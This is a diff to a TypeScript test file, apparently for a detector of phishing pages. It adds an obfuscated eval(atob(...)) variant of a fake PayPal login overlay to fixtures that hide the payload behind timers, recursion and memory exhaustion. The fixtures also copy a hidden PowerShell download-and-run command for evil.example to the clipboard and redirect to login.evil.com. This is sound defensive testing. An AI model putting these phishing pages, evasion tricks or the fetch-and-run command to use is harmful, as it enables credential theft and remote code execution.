@@ -9,6 +9,8 @@ const PHISH =
   '<input type=password name=password placeholder=Password><button>Log in</button></form>' +
   '<footer>&copy; 1999-2026 PayPal. All rights reserved.</footer>'
 const DRAW = `document.title = 'PayPal: Log in to your account'; document.body.innerHTML = \`${PHISH}\``
+/** The same where its markup stands nowhere in the script. */
+const UNREAD = `eval(atob('${btoa(DRAW)}'))`
 const COPY = 'navigator.clipboard.writeText("powershell -w hidden iwr http://evil.example/x.ps1 | iex")'
 const LEAVE = 'location.href = "http://login.evil.com/" + ["ph", "ish"].join("")'
 
@@ -28,8 +30,8 @@ const reportOn = (added: string) =>
   )
 const button = (index: number) => `<button onclick="${index}">Verify ${index}</button>`
 const alike = (index: number) => `<button onclick="0">Verify ${index}</button>`
-const next = (steps: number) =>
-  `<div id=w></div>${script(`let n = 0; function go() { if (++n === ${steps}) { ${DRAW} } else w.innerHTML = '<button onclick="go()">Continue ' + n + '</button>' }; go()`)}`
+const next = (steps: number, draw = DRAW) =>
+  `<div id=w></div>${script(`let n = 0; function go() { if (++n === ${steps}) { ${draw} } else w.innerHTML = '<button onclick="go()">Continue ' + n + '</button>' }; go()`)}`
 const framed = (count: number) =>
   `${times(count, (index) => `<iframe srcdoc="<script>0//${index}</script>"></iframe>`)}<iframe id=z></iframe>${script(`z.setAttribute('srcdoc', '<script>' + ${JSON.stringify(DRAW)} + '<\\/script>')`)}`
 
@@ -114,26 +116,26 @@ describe('what still is pushed out makes the report inconclusive [T5]', () => {
   test.each([
     [
       '2,500 timers',
-      script(`for (let i = 0; i < 2500; i++) setTimeout(() => 0, i); setTimeout(() => { ${DRAW} }, 9e3)`),
+      script(`for (let i = 0; i < 2500; i++) setTimeout(() => 0, i); setTimeout(() => { ${UNREAD} }, 9e3)`),
     ],
-    ['eleven minutes', script(`setTimeout(() => { ${DRAW} }, 66e4)`)],
+    ['eleven minutes', script(`setTimeout(() => { ${UNREAD} }, 66e4)`)],
     [
       'ticks that are shown',
       script(
-        `let n = 0; setInterval(() => { document.querySelector('h1').textContent = n; if (++n === 9e3) { ${DRAW} } }, 100)`,
+        `let n = 0; setInterval(() => { document.querySelector('h1').textContent = n; if (++n === 9e3) { ${UNREAD} } }, 100)`,
       ),
     ],
     [
       'messages without end',
       script(
-        `addEventListener('message', () => postMessage(0)); postMessage(0); setTimeout(() => { ${DRAW} })`,
+        `addEventListener('message', () => postMessage(0)); postMessage(0); setTimeout(() => { ${UNREAD} })`,
       ),
     ],
     [
       '1,300 buttons',
-      `${times(1300, button)}<button onclick="go()">Continue</button>${script(`function go() { ${DRAW} }`)}`,
+      `${times(1300, button)}<button onclick="go()">Continue</button>${script(`function go() { ${UNREAD} }`)}`,
     ],
-    ['twenty presses, one after the other', next(20)],
+    ['twenty presses, one after the other', next(20, UNREAD)],
     [
       '120 fields',
       `${times(120, (index) => `<input name=f${index}>`)}<input id=z>${script(`z.oninput = () => { ${LEAVE} }`)}`,
@@ -145,12 +147,12 @@ describe('what still is pushed out makes the report inconclusive [T5]', () => {
     ],
     [
       '2,000 calls within each other',
-      script(`(function f(n) { if (n === 0) { ${DRAW} } else f(n - 1) })(2000)`),
+      script(`(function f(n) { if (n === 0) { ${UNREAD} } else f(n - 1) })(2000)`),
     ],
     [
       '100 MB',
       script(
-        `const a = []; try { for (let i = 0; i < 100; i++) a.push(new Uint8Array(1e6)) } catch { throw 0 }; ${DRAW}`,
+        `const a = []; try { for (let i = 0; i < 100; i++) a.push(new Uint8Array(1e6)) } catch { throw 0 }; ${UNREAD}`,
       ),
     ],
   ])('behind %s', (_, added) => {
